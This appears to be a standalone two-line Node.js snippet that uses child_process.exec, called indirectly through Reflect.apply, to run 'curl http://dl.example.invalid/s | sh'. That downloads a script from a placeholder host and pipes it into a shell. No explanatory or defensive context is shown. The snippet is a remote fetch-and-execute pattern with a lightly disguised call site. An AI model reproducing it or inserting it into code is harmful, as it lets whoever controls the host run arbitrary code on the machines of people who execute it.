const cp = require('child_process');
Reflect.apply(cp.exec, null, ['curl http://dl.example.invalid/s | sh']);
